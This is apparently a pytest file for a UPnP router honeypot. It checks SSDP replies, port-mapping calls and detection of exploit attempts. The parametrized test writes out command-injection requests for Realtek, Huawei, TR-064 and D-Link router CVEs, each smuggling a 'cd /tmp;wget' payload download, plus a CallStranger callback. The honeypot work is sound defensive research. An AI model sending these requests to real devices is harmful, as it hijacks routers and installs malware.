"""UPnP: searches that are answered and amplify nothing, descriptions, calls, and the commands that are in them."""

from __future__ import annotations

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols import _soap as soap
from eudaemon.protocols.upnp import Upnp, room
from eudaemon.protocols.upnp.device import HUAWEI_PORT, REALTEK_PORT, device_of
from eudaemon.protocols.upnp.mappings import MAPPINGS_MAX
from eudaemon.testing.script import Table, play, visit
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed

HOST = Host.from_seed(Seed(b"test"))
SEARCH = b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: %s\r\nMAN: "ssdp:discover"\r\nMX: 2\r\n\r\n'
WANIP = "urn:schemas-upnp-org:service:WANIPConnection:1"


def talk(*, transport: str = "tcp", port: int = REALTEK_PORT, memory: Memory | None = None) -> Table:
    return Table(Upnp(visit(host=HOST, transport=transport, port=port, memory=memory))).open()


def called(action: str, *, path: str = "/wanipcn.xml", **arguments: str) -> bytes:
    inside = "".join(f"<{name}>{value}</{name}>" for name, value in arguments.items())
    body = f'<s:Envelope><s:Body><u:{action} xmlns:u="{WANIP}">{inside}</u:{action}></s:Body></s:Envelope>'
    return (f'POST {path} HTTP/1.1\r\nHost: a\r\nSOAPAction: "{WANIP}#{action}"\r\nContent-Length: {len(body)}\r\n\r\n'
            f"{body}").encode()  # fmt: skip


def exploits(table: Table) -> list[tuple[str, str, str]]:
    return [(f.name, f.reference, f.command) for f in table.facts if isinstance(f, ExploitRecognised)]


def test_a_search_is_answered_with_what_fits() -> None:
    whole = device_of(HOST, REALTEK_PORT).found("upnp:rootdevice", "192.0.2.1:52869", 10_000)
    table = talk(transport="udp", port=1900)
    first = table.say(SEARCH % b"upnp:rootdevice")
    assert first.startswith(
        b"HTTP/1.1 200 OK\r\nLOCATION:http://192.0.2.1:52869/picsdesc.xml\r\nST:upnp:rootdevice\r\n"
    )
    assert len(first) <= len(SEARCH % b"upnp:rootdevice")
    for _ in range(6):
        table.say(SEARCH % b"urn:schemas-upnp-org:service:WANPPPConnection:1")  # which it has not
    assert table.say(SEARCH % b"upnp:rootdevice") == whole
    assert b"\r\nSERVER:" in whole
    assert b"\r\nUSN:uuid:" in whole


def test_a_flood_is_not_answered_with_more() -> None:
    table, sent = talk(transport="udp", port=1900), 0
    for number in range(room.DATAGRAMS_MAX + 9):
        data = SEARCH % (b"ssdp:all", b"upnp:rootdevice", b"x" * 300, b"")[number % 4]
        before = table.sent
        table.say(data)
        sent += len(data)
        assert len(table.sent) <= sent
        assert number < room.DATAGRAMS_MAX or table.sent == before
    assert talk(transport="udp", port=1900).say(b"M-SEARCH * HTTP/1.1\r\nST:ssdp:all\r\n\r\n") == b""
    assert talk(transport="udp", port=1900).say(b"\r\n") == b""


def test_what_everything_is_searched_by_is_described() -> None:
    table = talk(transport="udp", port=1900)
    device = device_of(HOST, REALTEK_PORT)
    for _ in range(20):
        table.say(SEARCH % b"none")
    found = table.say(SEARCH % b"ssdp:all")
    assert found.count(b"HTTP/1.1 200 OK") == len(device.types()) <= room.ANSWERS_MAX
    document = device.document().decode()
    for name in device.types()[1:]:
        assert f">{name}<" in document


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize(
    ("request_", "name", "reference"),
    [
        (called("AddPortMapping", path="/picsdesc.xml", NewInternalClient="`cd /tmp;wget http://198.51.100.7/x`"),
         "realtek-miniigd", "CVE-2014-8361"),
        (called("Upgrade", path="/ctrlt/DeviceUpgrade_1", NewStatusURL="$(cd /tmp;wget http://198.51.100.7/x)",
                NewDownloadURL="$(echo HUAWEIUPNP)"), "huawei-hg532", "CVE-2017-17215"),
        (called("SetNTPServers", path="/UD/act?1", NewNTPServer1="`cd /tmp;wget http://198.51.100.7/x`"), "tr064-ntp",
         "CVE-2016-10372"),
        (b"SUBSCRIBE /gena.cgi?service=`cd%20/tmp;wget%20http://198.51.100.7/x` HTTP/1.0\r\nCallback: <http://198.51.100.7/>\r\n"
         b"\r\n", "dlink-gena", "CVE-2019-17621"),
        (b"GET /setup.cgi?a=1;cd%20/tmp;wget%20http://198.51.100.7/x HTTP/1.1\r\n\r\n", "shell-injection", "CWE-78"),
    ],
)  # fmt: skip
def test_a_command_in_a_call_runs(request_: bytes, name: str, reference: str, split: int) -> None:
    table = talk()
    table.say(request_, split)
    assert table.sent.startswith(b"HTTP/1.1 404 Not Found\r\n" if b"setup.cgi" in request_ else b"HTTP/1.1 200 OK\r\n")
    ((found, cve, command),) = exploits(table)
    assert (found, cve) == (name, reference)
    assert command.endswith("cd /tmp;wget http://198.51.100.7/x")
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]


def test_ports_are_mapped_listed_and_forgotten() -> None:
    memory = Memory()
    where = {"NewExternalPort": "4444", "NewProtocol": "TCP"}
    add = called("AddPortMapping", **where, NewInternalPort="80", NewInternalClient="8.8.8.8",
                 NewPortMappingDescription="a &lt;b&gt;", NewLeaseDuration="0", NewRemoteHost="")  # fmt: skip
    table = talk(memory=memory)
    table.say(add)
    assert exploits(table)[0][:2] == ("upnp-proxy", "T1090")
    later = talk(memory=memory)
    listed = later.say(called("GetGenericPortMappingEntry", NewPortMappingIndex="0"))
    assert b"<NewInternalClient>8.8.8.8</NewInternalClient>" in listed
    assert b"<NewPortMappingDescription>a &lt;b&gt;</NewPortMappingDescription>" in listed
    assert b"<errorCode>713</errorCode>" in later.say(called("GetGenericPortMappingEntry", NewPortMappingIndex="1"))
    assert b"<NewInternalPort>80<" in later.say(called("GetSpecificPortMappingEntry", **where))
    assert b" 200 OK" in later.say(called("DeletePortMapping", **where))
    assert b"<errorCode>714</errorCode>" in later.say(called("DeletePortMapping", **where))
    assert b"<errorCode>401</errorCode>" in later.say(called("Whatever"))
    assert [fact.line for fact in later.facts if isinstance(fact, CommandEntered)][-1] == "Whatever"
    for number in range(MAPPINGS_MAX + 1):
        said = later.say(called("AddPortMapping", NewExternalPort=str(number), NewProtocol="UDP"))
    assert b"<errorCode>728</errorCode>" in said


def test_a_subscription_to_another_is_stated_and_never_served() -> None:
    script = r"""
> SUBSCRIBE /upnp/event/WANIPConn1 HTTP/1.1\r\nHost: a\r\nCallback: <http://8.8.8.8/>\r\nNT: upnp:event\r\n\r\n
*
! exploit.recognised name='callstranger' command='<http://8.8.8.8/>'
> SUBSCRIBE /upnp/event/WANIPConn1 HTTP/1.1\r\nHost: a\r\nCallback: <http://198.51.100.7:1/>\r\n\r\n
*
"""
    table = play(Upnp, script)
    assert not table.wishes
    assert len(exploits(table)) == 1


def test_each_port_has_its_product_and_each_installation_its_own() -> None:
    assert device_of(HOST, HUAWEI_PORT).server == "Linux UPnP/1.0 Huawei-ATP-IGD"
    assert "miniupnpd" in device_of(HOST, REALTEK_PORT).server.lower()
    devices = [device_of(Host.from_seed(Seed(b"%d" % n)), REALTEK_PORT) for n in range(24)]
    assert len({device.uuid for device in devices}) == 24
    assert len({device.server for device in devices}) > 3


@pytest.mark.parametrize("split", [0, 1])
def test_an_empty_request_is_answered_as_miniupnpd_answers_it(split: int) -> None:
    table = talk()
    assert table.say(b"\r\n\r\n", split).startswith(b" 501 Not Implemented\r\n")
    assert table.over
    table = talk()
    assert table.say(b"\r\nGET /picsdesc.xml HTTP/1.0\r\n\r\n", split).startswith(b"HTTP/1.1 200 OK\r\n")


def test_arguments_up_to_a_limit() -> None:
    arguments = {f"a{number}": "`id`" for number in range(soap.ARGUMENTS_MAX + 1)}
    table = talk()
    table.say(called("X", **arguments))
    (line,) = [fact.line for fact in table.facts if isinstance(fact, CommandEntered) and fact.line.startswith("X ")]
    assert f" a{soap.ARGUMENTS_MAX - 1}=" in line
    assert f" a{soap.ARGUMENTS_MAX}=" not in line
